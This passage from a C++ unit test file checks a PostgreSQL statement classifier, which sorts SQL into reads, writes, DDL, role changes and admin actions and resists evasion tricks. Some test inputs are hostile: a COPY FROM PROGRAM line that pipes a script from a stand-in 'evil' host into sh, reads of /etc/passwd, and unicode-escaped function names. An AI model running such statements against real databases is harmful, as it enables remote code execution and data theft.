#include "sql/postgres/classifier.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "only_statement.h"

namespace portcullis::sql::postgres {
namespace {

constexpr ClassSet kRead = static_cast<ClassSet>(StatementClass::read);
constexpr ClassSet kWrite = static_cast<ClassSet>(StatementClass::write);
constexpr ClassSet kDdl = static_cast<ClassSet>(StatementClass::ddl);
constexpr ClassSet kDcl = static_cast<ClassSet>(StatementClass::dcl);
constexpr ClassSet kAdmin = static_cast<ClassSet>(StatementClass::admin);
constexpr ClassSet kTransaction = static_cast<ClassSet>(StatementClass::transaction);
constexpr ClassSet kSession = static_cast<ClassSet>(StatementClass::session);
constexpr ClassSet kUnknown = static_cast<ClassSet>(StatementClass::unknown);

bool has_item(const std::vector<std::string>& list, std::string_view item) {
  return std::find(list.begin(), list.end(), item) != list.end();
}

using Strings = std::vector<std::string>;

// --- reads and writes ------------------------------------------------------------------

TEST(ClassifierTest, PointSelectIsARead) {
  Statement s = one("SELECT id, name FROM users WHERE id = 1");
  EXPECT_EQ(s.kind, "select");
  EXPECT_EQ(s.classes, kRead);
  EXPECT_EQ(s.tables_read, Strings{"users"});
  EXPECT_TRUE(s.tables_written.empty());
}

TEST(ClassifierTest, ValuesAndTableAreReads) {
  EXPECT_EQ(one("VALUES (1), (2)").classes, kRead);
  Statement t = one("TABLE accounts");
  EXPECT_EQ(t.kind, "select");
  EXPECT_EQ(t.classes, kRead);
  EXPECT_EQ(t.tables_read, Strings{"accounts"});
}

TEST(ClassifierTest, SchemaAndCatalogQualifiedTablesKeepTheirQualifiers) {
  Statement s = one("SELECT * FROM app.public.orders o JOIN billing.invoices i ON o.id = i.oid");
  EXPECT_EQ(s.tables_read, (Strings{"app.public.orders", "billing.invoices"}));
}

TEST(ClassifierTest, QuotedIdentifiersStayVerbatim) {
  Statement s = one(R"(SELECT * FROM "Orders", ORDERS)");
  EXPECT_EQ(s.tables_read, (Strings{"Orders", "orders"}));
}

TEST(ClassifierTest, InsertUpdateDeleteMergeWriteTheirTargets) {
  Statement i = one("INSERT INTO audit_log SELECT * FROM events");
  EXPECT_EQ(i.kind, "insert");
  EXPECT_EQ(i.classes, kWrite);
  EXPECT_EQ(i.tables_written, Strings{"audit_log"});
  EXPECT_EQ(i.tables_read, Strings{"events"});

  Statement u = one("UPDATE accounts SET balance = 0 WHERE id = 3");
  EXPECT_EQ(u.kind, "update");
  EXPECT_EQ(u.tables_written, Strings{"accounts"});
  EXPECT_FALSE(u.where_absent);

  Statement d = one("DELETE FROM s.sessions USING users WHERE sessions.uid = users.id");
  EXPECT_EQ(d.kind, "delete");
  EXPECT_EQ(d.tables_written, Strings{"s.sessions"});
  EXPECT_EQ(d.tables_read, Strings{"users"});

  Statement m = one(
      "MERGE INTO stock t USING incoming s ON t.id = s.id "
      "WHEN MATCHED THEN UPDATE SET qty = s.qty WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.qty)");
  EXPECT_EQ(m.kind, "merge");
  EXPECT_EQ(m.classes, kWrite);
  EXPECT_EQ(m.tables_written, Strings{"stock"});
  EXPECT_EQ(m.tables_read, Strings{"incoming"});
}

TEST(ClassifierTest, TruncateIsAWriteOfEveryTable) {
  Statement s = one("TRUNCATE a, b.c");
  EXPECT_EQ(s.kind, "truncate");
  EXPECT_EQ(s.classes, kWrite);
  EXPECT_EQ(s.tables_written, (Strings{"a", "b.c"}));
}

TEST(ClassifierTest, LockIsAWrite) {
  Statement s = one("LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE");
  EXPECT_EQ(s.kind, "lock");
  EXPECT_EQ(s.classes, kWrite);
}

// --- where: absent ---------------------------------------------------------------------

TEST(ClassifierTest, DeleteWithoutWhereHasWhereAbsent) {
  EXPECT_TRUE(one("DELETE FROM users").where_absent);
  EXPECT_TRUE(one("UPDATE users SET admin = true").where_absent);
}

TEST(ClassifierTest, ConstantTrueWhereCountsAsAbsent) {
  EXPECT_TRUE(one("DELETE FROM users WHERE true").where_absent);
  EXPECT_TRUE(one("DELETE FROM users WHERE 1=1").where_absent);
  EXPECT_TRUE(one("UPDATE users SET a = 1 WHERE 'a' = 'a'").where_absent);
  EXPECT_TRUE(one("DELETE FROM users WHERE id = 5 OR 1 = 1").where_absent);
  EXPECT_TRUE(one("DELETE FROM users WHERE TRUE::boolean").where_absent);
  EXPECT_TRUE(one("DELETE FROM users WHERE NOT false").where_absent);
  EXPECT_TRUE(one("DELETE FROM users WHERE 2 > 1").where_absent);
  EXPECT_TRUE(one("DELETE FROM users WHERE id = id").where_absent);
  EXPECT_TRUE(one("DELETE FROM users WHERE 't'").where_absent);
}

TEST(ClassifierTest, RealConditionsAreNotAbsent) {
  EXPECT_FALSE(one("DELETE FROM users WHERE id = 1").where_absent);
  EXPECT_FALSE(one("DELETE FROM users WHERE 1 = 0").where_absent);
  EXPECT_FALSE(one("DELETE FROM users WHERE id = 5 AND 1 = 1").where_absent);
  EXPECT_FALSE(one("DELETE FROM users WHERE false OR id = 2").where_absent);
}

TEST(ClassifierTest, WhereCurrentOfIsNotAbsent) {
  EXPECT_FALSE(one("DELETE FROM users WHERE CURRENT OF c").where_absent);
}

TEST(ClassifierTest, SelectHasNoWhereAbsentFlag) {
  EXPECT_FALSE(one("SELECT * FROM users").where_absent);
}

// --- writable CTEs, locks, SELECT INTO -------------------------------------------------

TEST(ClassifierTest, WritableCteMakesSelectAWrite) {
  Statement s = one("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone");
  EXPECT_EQ(s.kind, "select");
  EXPECT_EQ(s.classes, kRead | kWrite);
  EXPECT_EQ(s.tables_written, Strings{"users"});
  EXPECT_TRUE(s.tables_read.empty()) << "the CTE name is not a table";
}

TEST(ClassifierTest, WritableCteNestedInSubqueryIsFound) {
  Statement s =
      one("SELECT * FROM (SELECT 1) a, LATERAL (WITH x AS (UPDATE t SET v = 0 RETURNING v) "
          "SELECT * FROM x) b");
  EXPECT_EQ(s.classes, kRead | kWrite);
  EXPECT_EQ(s.tables_written, Strings{"t"});
}

TEST(ClassifierTest, WritableCteInsideInsertSelectWritesBothTables) {
  Statement s = one("INSERT INTO archive WITH x AS (DELETE FROM live RETURNING *) SELECT * FROM x");
  EXPECT_EQ(s.classes, kWrite);
  EXPECT_EQ(s.tables_written, (Strings{"archive", "live"}));
}

TEST(ClassifierTest, CteNameDoesNotHideTheRealTableOutsideItsScope) {
  Statement s = one("SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) x");
  EXPECT_EQ(s.tables_read, Strings{"secrets"});
}

TEST(ClassifierTest, NonRecursiveCteBodySeesTheRealTable) {
  Statement s = one("WITH secrets AS (SELECT * FROM secrets) SELECT * FROM secrets");
  EXPECT_EQ(s.tables_read, Strings{"secrets"});
}

TEST(ClassifierTest, SchemaQualifiedNameIsNeverACte) {
  Statement s = one("WITH t AS (SELECT 1) SELECT * FROM public.t, t");
  EXPECT_EQ(s.tables_read, Strings{"public.t"});
}

TEST(ClassifierTest, SelectForUpdateIsNotAPlainRead) {
  EXPECT_EQ(one("SELECT * FROM jobs WHERE id = 1 FOR UPDATE").classes, kRead | kWrite);
  EXPECT_EQ(one("SELECT * FROM jobs FOR SHARE SKIP LOCKED").classes, kRead | kWrite);
  EXPECT_EQ(one("SELECT * FROM (SELECT * FROM jobs FOR NO KEY UPDATE) j").classes, kRead | kWrite);
}

TEST(ClassifierTest, SelectIntoCreatesATable) {
  Statement s = one("SELECT * INTO copy_of_users FROM users");
  EXPECT_EQ(s.kind, "select_into");
  EXPECT_EQ(s.classes, kRead | kWrite | kDdl);
  EXPECT_EQ(s.tables_written, Strings{"copy_of_users"});
  EXPECT_EQ(s.tables_read, Strings{"users"});
}

TEST(ClassifierTest, CreateTableAsAndMaterializedViews) {
  Statement s = one("CREATE TABLE t2 AS SELECT * FROM t1");
  EXPECT_EQ(s.kind, "create_table_as");
  EXPECT_EQ(s.inner_kind, "select");
  EXPECT_EQ(s.classes, kRead | kWrite | kDdl);
  EXPECT_EQ(s.tables_written, Strings{"t2"});
  EXPECT_EQ(s.tables_read, Strings{"t1"});
  EXPECT_EQ(one("CREATE MATERIALIZED VIEW mv AS SELECT 1").kind, "create_materialized_view");
}

// --- functions -------------------------------------------------------------------------

TEST(ClassifierTest, DangerousFunctionAddsAdmin) {
  Statement s = one("SELECT pg_read_file('/etc/passwd')");
  EXPECT_EQ(s.classes, kRead | kAdmin);
  EXPECT_EQ(s.functions, Strings{"pg_read_file"});
}

TEST(ClassifierTest, DangerousFunctionIgnoresSchemaAndCase) {
  Statement s = one("SELECT PG_CATALOG.Pg_Ls_Dir('.')");
  EXPECT_EQ(s.functions, Strings{"pg_catalog.pg_ls_dir"});
  EXPECT_TRUE(has(s.classes, StatementClass::admin));
}

TEST(ClassifierTest, QuotedFunctionNameIsKeptVerbatimAndStillFlagged) {
  Statement s = one(R"(SELECT "PG_READ_FILE"('x'))");
  EXPECT_EQ(s.functions, Strings{"PG_READ_FILE"});
  EXPECT_TRUE(has(s.classes, StatementClass::admin));
}

TEST(ClassifierTest, FunctionFamiliesAreDangerous) {
  EXPECT_TRUE(
      has(one("SELECT dblink_exec('host=x', 'drop table t')").classes, StatementClass::admin));
  EXPECT_TRUE(has(one("SELECT pg_stat_reset_shared('bgwriter')").classes, StatementClass::admin));
  EXPECT_TRUE(has(one("SELECT pg_terminate_backend(123)").classes, StatementClass::admin));
  EXPECT_TRUE(has(one("SELECT lo_import('/etc/passwd')").classes, StatementClass::admin));
  EXPECT_FALSE(has(one("SELECT now(), lower('X')").classes, StatementClass::admin));
}

TEST(ClassifierTest, FunctionsInSubqueriesAreFound) {
  Statement s = one("SELECT * FROM t WHERE id IN (SELECT f(x) FROM (SELECT g(1) AS x) s)");
  EXPECT_TRUE(has_item(s.functions, "f"));
  EXPECT_TRUE(has_item(s.functions, "g"));
}

TEST(ClassifierTest, FunctionsInCastsAndArgumentsAreFound) {
  Statement s = one("SELECT CAST(pg_read_file('x') AS int), upper(lo_export(1, '/tmp/x'))::text");
  EXPECT_TRUE(has_item(s.functions, "pg_read_file"));
  EXPECT_TRUE(has_item(s.functions, "lo_export"));
  EXPECT_TRUE(has_item(s.functions, "upper"));
}

TEST(ClassifierTest, FunctionsInColumnDefaultsAreFound) {
  Statement s = one("CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))");
  EXPECT_EQ(s.kind, "create_table");
  EXPECT_EQ(s.classes, kDdl | kAdmin);
  EXPECT_EQ(s.functions, Strings{"pg_read_file"});
  EXPECT_EQ(s.tables_written, Strings{"t"});
}

TEST(ClassifierTest, FunctionsInCtesFromJoinsOrderAndReturningAreFound) {
  Statement s =
      one("WITH c AS (SELECT a() AS v) "
          "UPDATE t SET x = 1 FROM generate_series(1, 2) g JOIN u ON b(u.id) = g "
          "WHERE t.id = c_id() RETURNING d(x)");
  for (auto name : {"a", "generate_series", "b", "c_id", "d"}) {
    EXPECT_TRUE(has_item(s.functions, name)) << name;
  }
  Statement o = one("SELECT x FROM t ORDER BY e(x)");
  EXPECT_TRUE(has_item(o.functions, "e"));
}

TEST(ClassifierTest, FunctionsInValuesAndIndexExpressionsAreFound) {
  EXPECT_TRUE(has_item(one("INSERT INTO t VALUES (f(1))").functions, "f"));
  Statement i = one("CREATE INDEX ON t (lower(email))");
  EXPECT_EQ(i.kind, "create_index");
  EXPECT_TRUE(has_item(i.functions, "lower"));
}

// --- set_config ------------------------------------------------------------------------

TEST(ClassifierTest, SetConfigOfASessionSettingIsSession) {
  Statement s = one("SELECT set_config('application_name', 'x', false)");
  EXPECT_EQ(s.classes, kRead | kSession);
  EXPECT_FALSE(s.lifts_read_only);
  // pg_dump's first query.
  Statement d = one("SELECT pg_catalog.set_config('search_path', '', false)");
  EXPECT_EQ(d.classes, kRead | kSession);
  EXPECT_EQ(one("SELECT set_config('log_statement', 'none', false)").classes, kRead | kAdmin);
}

TEST(ClassifierTest, SetConfigTurningReadOnlyOffLiftsReadOnly) {
  EXPECT_TRUE(
      one("SELECT set_config('default_transaction_read_only', 'off', false)").lifts_read_only);
  EXPECT_TRUE(
      one("SELECT pg_catalog.set_config('TRANSACTION_READ_ONLY', '0', true)").lifts_read_only);
  EXPECT_TRUE(
      one("SELECT set_config('transaction_read_only', current_user, true)").lifts_read_only);
  EXPECT_FALSE(
      one("SELECT set_config('default_transaction_read_only', 'on', false)").lifts_read_only);
}

TEST(ClassifierTest, SetConfigOfRoleIsDcl) {
  EXPECT_TRUE(
      has(one("SELECT set_config('role', 'postgres', false)").classes, StatementClass::dcl));
  EXPECT_TRUE(has(one("SELECT set_config('session_authorization', 'postgres', false)").classes,
                  StatementClass::dcl));
}

TEST(ClassifierTest, SetConfigWithComputedNameIsTreatedAsTheWorstSetting) {
  Statement s = one("SELECT set_config(name, 'off', false) FROM settings");
  EXPECT_TRUE(s.lifts_read_only);
  EXPECT_TRUE(has(s.classes, StatementClass::dcl));
}

// --- evasion ---------------------------------------------------------------------------

TEST(ClassifierTest, CommentsOfEveryFormDoNotHideTheStatement) {
  Statement s = one("/* harmless */ -- SELECT 1\nDROP /* x /* nested */ y */ TABLE users");
  EXPECT_EQ(s.kind, "drop_table");
  EXPECT_EQ(s.tables_written, Strings{"users"});
}

TEST(ClassifierTest, OnlyCommentsGiveNoStatements) {
  Classification c = classify("-- nothing here\n/* or /* here */ */");
  EXPECT_TRUE(c.statements.empty());
  EXPECT_TRUE(c.parse_error.empty());
  EXPECT_TRUE(classify("").statements.empty());
  EXPECT_TRUE(classify("  ;  ; ").statements.empty());
}

TEST(ClassifierTest, CaseDoesNotMatter) {
  Statement s = one("dElEtE fRoM Users");
  EXPECT_EQ(s.kind, "delete");
  EXPECT_EQ(s.tables_written, Strings{"users"});
}

TEST(ClassifierTest, DollarQuotedStringsAreData) {
  Statement s = one("SELECT $$DROP TABLE users$$, $tag$ ; DELETE FROM x; $tag$");
  EXPECT_EQ(s.kind, "select");
  EXPECT_EQ(s.classes, kRead);
  EXPECT_TRUE(s.tables_read.empty());
}

TEST(ClassifierTest, UnicodeEscapedIdentifiersAreDecoded) {
  Statement s = one(R"(SELECT U&"pg\005fread\005ffile"('/etc/passwd'))");
  EXPECT_EQ(s.functions, Strings{"pg_read_file"});
  EXPECT_TRUE(has(s.classes, StatementClass::admin));
  Statement t = one(R"(DELETE FROM U&"d\0061ta")");
  EXPECT_EQ(t.tables_written, Strings{"data"});
}

TEST(ClassifierTest, SeveralStatementsInOneTextAreEachClassified) {
  Classification c = classify("SELECT 1; DROP TABLE users;\nDELETE FROM t");
  ASSERT_EQ(c.statements.size(), 3u);
  EXPECT_EQ(c.statements[0].kind, "select");
  EXPECT_EQ(c.statements[0].text, "SELECT 1");
  EXPECT_EQ(c.statements[1].kind, "drop_table");
  EXPECT_EQ(c.statements[1].text, "DROP TABLE users");
  EXPECT_EQ(c.statements[2].kind, "delete");
  EXPECT_EQ(c.statements[2].text, "DELETE FROM t");
  EXPECT_EQ(c.classes(), kRead | kDdl | kWrite);
}

TEST(ClassifierTest, SemicolonInsideStringsDoesNotSplit) {
  Classification c = classify("SELECT 'a; DROP TABLE users; --', E'\\'; DELETE'");
  ASSERT_EQ(c.statements.size(), 1u);
  EXPECT_EQ(c.statements[0].kind, "select");
  EXPECT_EQ(c.statements[0].classes, kRead);
}

TEST(ClassifierTest, GrammarRejectedTextIsUnknown) {
  Classification c = classify("SELEC * FROM users");
  ASSERT_EQ(c.statements.size(), 1u);
  EXPECT_EQ(c.statements[0].kind, "unknown");
  EXPECT_EQ(c.statements[0].classes, kUnknown);
  EXPECT_EQ(c.statements[0].text, "SELEC * FROM users");
  EXPECT_NE(c.parse_error.find("syntax error"), std::string::npos);
}

TEST(ClassifierTest, OneBadStatementMakesTheWholeTextUnknown) {
  Classification c = classify("SELECT 1; DROP TABLE; SELECT 2");
  ASSERT_EQ(c.statements.size(), 1u);
  EXPECT_EQ(c.statements[0].kind, "unknown");
}

TEST(ClassifierTest, NulByteIsUnknown) {
  Classification c = classify(std::string_view("SELECT 1;\0DROP TABLE t", 22));
  ASSERT_EQ(c.statements.size(), 1u);
  EXPECT_EQ(c.statements[0].classes, kUnknown);
  EXPECT_FALSE(c.parse_error.empty());
}

// --- wrappers --------------------------------------------------------------------------

TEST(ClassifierTest, ExplainIsAReadOfTheInnerKind) {
  Statement s = one("EXPLAIN DELETE FROM users");
  EXPECT_EQ(s.kind, "explain");
  EXPECT_EQ(s.inner_kind, "delete");
  EXPECT_EQ(s.classes, kRead);
  EXPECT_FALSE(s.where_absent);
}

TEST(ClassifierTest, ExplainAnalyzeHasTheClassesOfTheStatement) {
  Statement s = one("EXPLAIN ANALYZE DELETE FROM users");
  EXPECT_EQ(s.kind, "explain");
  EXPECT_EQ(s.inner_kind, "delete");
  EXPECT_EQ(s.classes, kWrite);
  EXPECT_TRUE(s.where_absent);
  EXPECT_EQ(s.tables_written, Strings{"users"});

  Statement p = one("EXPLAIN (ANALYZE, BUFFERS) SELECT pg_read_file('x')");
  EXPECT_EQ(p.classes, kRead | kAdmin);
  EXPECT_EQ(one("EXPLAIN (ANALYZE false) DELETE FROM t").classes, kRead);
  EXPECT_EQ(one("EXPLAIN (ANALYZE on) DELETE FROM t").classes, kWrite);
}

TEST(ClassifierTest, PrepareCarriesTheStatementItWillRun) {
  Statement s = one("PREPARE wipe(int) AS DELETE FROM users WHERE true");
  EXPECT_EQ(s.kind, "prepare");
  EXPECT_EQ(s.inner_kind, "delete");
  EXPECT_EQ(s.prepared_name, "wipe");
  EXPECT_EQ(s.classes, kWrite);
  EXPECT_TRUE(s.where_absent);
  EXPECT_EQ(s.tables_written, Strings{"users"});
}

TEST(ClassifierTest, ExecuteIsLeftToTheSession) {
  Statement s = one("EXECUTE wipe(1)");
  EXPECT_EQ(s.kind, "execute");
  EXPECT_EQ(s.prepared_name, "wipe");
  EXPECT_EQ(s.classes, 0u);
  EXPECT_TRUE(has(one("EXECUTE p(pg_read_file('x'))").classes, StatementClass::admin));
}

TEST(ClassifierTest, DeallocateIsSession) {
  Statement s = one("DEALLOCATE wipe");
  EXPECT_EQ(s.kind, "deallocate");
  EXPECT_EQ(s.prepared_name, "wipe");
  EXPECT_EQ(s.classes, kSession);
  EXPECT_EQ(one("DEALLOCATE ALL").classes, kSession);
}

TEST(ClassifierTest, CursorsTakeTheClassesOfTheirQuery) {
  Statement d = one("DECLARE c CURSOR FOR SELECT * FROM jobs FOR UPDATE");
  EXPECT_EQ(d.kind, "declare_cursor");
  EXPECT_EQ(d.inner_kind, "select");
  EXPECT_EQ(d.classes, kRead | kWrite);
  EXPECT_EQ(one("FETCH 10 FROM c").kind, "fetch");
  EXPECT_EQ(one("FETCH 10 FROM c").classes, kRead);
  EXPECT_EQ(one("MOVE NEXT IN c").kind, "move");
  EXPECT_EQ(one("CLOSE c").kind, "close");
  EXPECT_EQ(one("CLOSE ALL").classes, kRead);
}

// --- COPY --------------------------------------------------------------------------------

TEST(ClassifierTest, CopyFromStdinIsAWrite) {
  Statement s = one("COPY users (id, name) FROM STDIN WITH (FORMAT csv)");
  EXPECT_EQ(s.kind, "copy_from");
  EXPECT_EQ(s.classes, kWrite);
  EXPECT_EQ(s.tables_written, Strings{"users"});
}

TEST(ClassifierTest, CopyToStdoutIsARead) {
  Statement s = one("COPY users TO STDOUT");
  EXPECT_EQ(s.kind, "copy_to");
  EXPECT_EQ(s.classes, kRead);
  EXPECT_EQ(s.tables_read, Strings{"users"});
}

TEST(ClassifierTest, CopyOfAQueryHasTheQuerysClasses) {
  Statement s = one("COPY (DELETE FROM users RETURNING *) TO STDOUT");
  EXPECT_EQ(s.kind, "copy_to");
  EXPECT_EQ(s.classes, kWrite);
  EXPECT_EQ(s.tables_written, Strings{"users"});
  EXPECT_EQ(one("COPY (SELECT * FROM t) TO STDOUT").classes, kRead);
}

TEST(ClassifierTest, CopyProgramIsItsOwnKindAndAdmin) {
  Statement from = one("COPY t FROM PROGRAM 'curl http://evil/x | sh'");
  EXPECT_EQ(from.kind, "copy_program");
  EXPECT_EQ(from.classes, kWrite | kAdmin);
  Statement to = one("copy (select 1) to program 'cat > /tmp/x'");
  EXPECT_EQ(to.kind, "copy_program");
  EXPECT_EQ(to.classes, kRead | kAdmin);
}

TEST(ClassifierTest, CopyWithServerFileIsAdmin) {
  Statement from = one("COPY t FROM '/etc/passwd'");
  EXPECT_EQ(from.kind, "copy_from");
  EXPECT_EQ(from.classes, kWrite | kAdmin);
  Statement to = one("COPY t TO '/tmp/dump.csv' (FORMAT csv)");
  EXPECT_EQ(to.kind, "copy_to");
  EXPECT_EQ(to.classes, kRead | kAdmin);
}

// --- DDL, DCL, admin ---------------------------------------------------------------------

TEST(ClassifierTest, DropKindsNameTheObjectType) {
  EXPECT_EQ(one("DROP TABLE IF EXISTS a, s.b CASCADE").tables_written, (Strings{"a", "s.b"}));
  EXPECT_EQ(one("DROP TABLE a").kind, "drop_table");
  EXPECT_EQ(one("DROP INDEX CONCURRENTLY i").kind, "drop_index");
  EXPECT_EQ(one("DROP VIEW v").kind, "drop_view");
  EXPECT_EQ(one("DROP MATERIALIZED VIEW v").kind, "drop_materialized_view");
  EXPECT_EQ(one("DROP SCHEMA s CASCADE").kind, "drop_schema");
  EXPECT_EQ(one("DROP FUNCTION f(int)").kind, "drop_function");
  EXPECT_EQ(one("DROP SEQUENCE q").kind, "drop_sequence");
  EXPECT_EQ(one("DROP TYPE t").kind, "drop_type");
  EXPECT_EQ(one("DROP TABLE a").classes, kDdl);
  Statement ext = one("DROP EXTENSION pgcrypto");
  EXPECT_EQ(ext.kind, "drop_extension");
  EXPECT_EQ(ext.classes, kDdl | kAdmin);
}

TEST(ClassifierTest, DatabasesAndExtensionsAreDdlAndAdmin) {
  Statement d = one("DROP DATABASE prod");
  EXPECT_EQ(d.kind, "drop_database");
  EXPECT_EQ(d.classes, kDdl | kAdmin);
  EXPECT_EQ(one("CREATE DATABASE x").kind, "create_database");
  Statement e = one("CREATE EXTENSION IF NOT EXISTS dblink");
  EXPECT_EQ(e.kind, "create_extension");
  EXPECT_EQ(e.classes, kDdl | kAdmin);
}

TEST(ClassifierTest, CommonDdlKinds) {
  EXPECT_EQ(one("CREATE TABLE t (id int primary key)").kind, "create_table");
  EXPECT_EQ(one("ALTER TABLE t ADD COLUMN c int").kind, "alter_table");
  EXPECT_EQ(one("ALTER TABLE t ADD COLUMN c int").tables_written, Strings{"t"});
  EXPECT_EQ(one("CREATE VIEW v AS SELECT * FROM t").kind, "create_view");
  EXPECT_EQ(one("CREATE VIEW v AS SELECT * FROM t").tables_read, Strings{"t"});
  EXPECT_EQ(one("CREATE SCHEMA s").kind, "create_schema");
  EXPECT_EQ(one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'").kind,
            "create_function");
  EXPECT_EQ(one("CREATE SEQUENCE s").kind, "create_sequence");
  EXPECT_EQ(one("ALTER TABLE t RENAME TO u").kind, "rename");
  EXPECT_EQ(one("COMMENT ON TABLE t IS 'x'").kind, "comment");
  EXPECT_EQ(one("CREATE TYPE mood AS ENUM ('a')").kind, "create_enum");
  EXPECT_EQ(one("CREATE AGGREGATE a (int) (sfunc = f, stype = int)").kind, "create_aggregate");
  EXPECT_EQ(one("CREATE TRIGGER tr BEFORE INSERT ON t EXECUTE FUNCTION f()").kind,
            "create_trigger");
  EXPECT_EQ(one("ALTER TABLE t RENAME TO u").classes, kDdl);
}

TEST(ClassifierTest, GrantsAndRolesAreDcl) {
  Statement g = one("GRANT SELECT ON accounts TO bob");
  EXPECT_EQ(g.kind, "grant");
  EXPECT_EQ(g.classes, kDcl);
  EXPECT_EQ(one("REVOKE ALL ON accounts FROM bob").kind, "revoke");
  EXPECT_EQ(one("GRANT admin TO bob").kind, "grant_role");
  EXPECT_EQ(one("REVOKE admin FROM bob").kind, "revoke_role");
  EXPECT_EQ(one("CREATE ROLE eve SUPERUSER").kind, "create_role");
  EXPECT_EQ(one("CREATE USER eve").kind, "create_role");
  EXPECT_EQ(one("ALTER ROLE eve PASSWORD 'x'").kind, "alter_role");
  EXPECT_EQ(one("DROP ROLE eve").kind, "drop_role");
  EXPECT_EQ(one("DROP ROLE eve").classes, kDcl);
  Statement d = one("ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob");
  EXPECT_EQ(d.kind, "alter_default_privileges");
  EXPECT_EQ(d.classes, kDcl);
}

TEST(ClassifierTest, SetRoleAndSessionAuthorizationAreDcl) {
  Statement r = one("SET ROLE postgres");
  EXPECT_EQ(r.kind, "set");
  EXPECT_EQ(r.setting, "role");
  EXPECT_EQ(r.classes, kDcl);
  EXPECT_EQ(one("SET SESSION AUTHORIZATION postgres").classes, kDcl);
  EXPECT_EQ(one("SET SESSION AUTHORIZATION postgres").setting, "session_authorization");
  Statement reset = one("RESET ROLE");
  EXPECT_EQ(reset.kind, "reset");
  EXPECT_EQ(reset.classes, kDcl);
}

TEST(ClassifierTest, ServerLevelStatementsAreAdmin) {
  EXPECT_EQ(one("ALTER SYSTEM SET work_mem = '1GB'").kind, "alter_system");
  EXPECT_EQ(one("ALTER SYSTEM SET work_mem = '1GB'").classes, kAdmin);
  EXPECT_EQ(one("LOAD 'plpgsql'").kind, "load");
  EXPECT_EQ(one("CHECKPOINT").kind, "checkpoint");
  EXPECT_EQ(one("CHECKPOINT").classes, kAdmin);
  EXPECT_EQ(one("VACUUM FULL t").kind, "vacuum");
  EXPECT_EQ(one("ANALYZE t").kind, "analyze");
  EXPECT_EQ(one("ANALYZE t").classes, kAdmin);
}

TEST(ClassifierTest, DoAndCallAreAdmin) {
  Statement d = one("DO $body$ BEGIN EXECUTE 'DROP TABLE users'; END $body$");
  EXPECT_EQ(d.kind, "do");
  EXPECT_EQ(d.classes, kAdmin);
  Statement c = one("CALL app.refresh(now())");
  EXPECT_EQ(c.kind, "call");
  EXPECT_EQ(c.classes, kAdmin);
  EXPECT_EQ(c.functions, (Strings{"app.refresh", "now"}));
}

TEST(ClassifierTest, PersistentSettingsThatTurnReadOnlyOffLiftReadOnly) {
  Statement r = one("ALTER ROLE app SET default_transaction_read_only = off");
  EXPECT_EQ(r.kind, "alter_role_set");
  EXPECT_EQ(r.classes, kDcl);
  EXPECT_EQ(r.setting, "default_transaction_read_only");
  EXPECT_TRUE(r.lifts_read_only);
  Statement d = one("ALTER DATABASE app SET default_transaction_read_only TO false");
  EXPECT_EQ(d.kind, "alter_database_set");
  EXPECT_TRUE(d.lifts_read_only);
  EXPECT_TRUE(one("ALTER SYSTEM SET default_transaction_read_only = off").lifts_read_only);
  EXPECT_FALSE(one("ALTER SYSTEM SET work_mem = '64MB'").lifts_read_only);
  EXPECT_EQ(one("ALTER SYSTEM SET work_mem = '64MB'").setting, "work_mem");
}

TEST(ClassifierTest, RulesAndFunctionBodiesListWhatTheyTouch) {
  Statement r = one("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit");
  EXPECT_EQ(r.kind, "create_rule");
  EXPECT_EQ(r.classes, kDdl);
  EXPECT_TRUE(has_item(r.tables_written, "audit"));
  Statement f = one(
      "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC SELECT pg_reload_conf(); END");
  EXPECT_EQ(f.kind, "create_function");
  EXPECT_EQ(f.classes, kDdl | kAdmin);
  EXPECT_EQ(f.functions, Strings{"pg_reload_conf"});
}

TEST(ClassifierTest, RecursiveCteSeesItsOwnName) {
  Statement s =
      one("WITH RECURSIVE tree AS (SELECT id FROM nodes WHERE parent IS NULL UNION ALL "
          "SELECT n.id FROM nodes n JOIN tree ON n.parent = tree.id) SELECT * FROM tree");
  EXPECT_EQ(s.tables_read, Strings{"nodes"});
  EXPECT_EQ(s.classes, kRead);
}

TEST(ClassifierTest, ExplainAnalyzeOfWritableCteIsAWrite) {
  Statement s = one("EXPLAIN ANALYZE WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x");
  EXPECT_EQ(s.inner_kind, "select");
  EXPECT_EQ(s.classes, kRead | kWrite);
}

TEST(ClassifierTest, StatementTextIsSlicedFromTheWhole) {
  Classification c = classify("  /* a */ SELECT 1 ;  -- tail\n  UPDATE t SET a = 1");
  ASSERT_EQ(c.statements.size(), 2u);
  EXPECT_EQ(c.statements[0].text, "/* a */ SELECT 1");
  EXPECT_EQ(c.statements[1].kind, "update");
  EXPECT_TRUE(c.statements[1].text.ends_with("UPDATE t SET a = 1"));
}

// --- transactions and session ------------------------------------------------------------

TEST(ClassifierTest, TransactionControlKinds) {
  EXPECT_EQ(one("BEGIN").kind, "begin");
  EXPECT_EQ(one("BEGIN").classes, kTransaction);
  EXPECT_EQ(one("START TRANSACTION").kind, "start_transaction");
  EXPECT_EQ(one("COMMIT").kind, "commit");
  EXPECT_EQ(one("END").kind, "commit");
  EXPECT_EQ(one("ROLLBACK").kind, "rollback");
  EXPECT_EQ(one("ABORT").kind, "rollback");
  EXPECT_EQ(one("SAVEPOINT s").kind, "savepoint");
  EXPECT_EQ(one("RELEASE SAVEPOINT s").kind, "release");
  EXPECT_EQ(one("ROLLBACK TO SAVEPOINT s").kind, "rollback_to");
  EXPECT_EQ(one("PREPARE TRANSACTION 'g'").kind, "prepare_transaction");
  EXPECT_EQ(one("COMMIT PREPARED 'g'").kind, "commit_prepared");
  EXPECT_EQ(one("ROLLBACK PREPARED 'g'").kind, "rollback_prepared");
}

TEST(ClassifierTest, BeginReadWriteLiftsReadOnly) {
  EXPECT_TRUE(one("BEGIN READ WRITE").lifts_read_only);
  EXPECT_TRUE(one("START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE").lifts_read_only);
  EXPECT_FALSE(one("BEGIN READ ONLY").lifts_read_only);
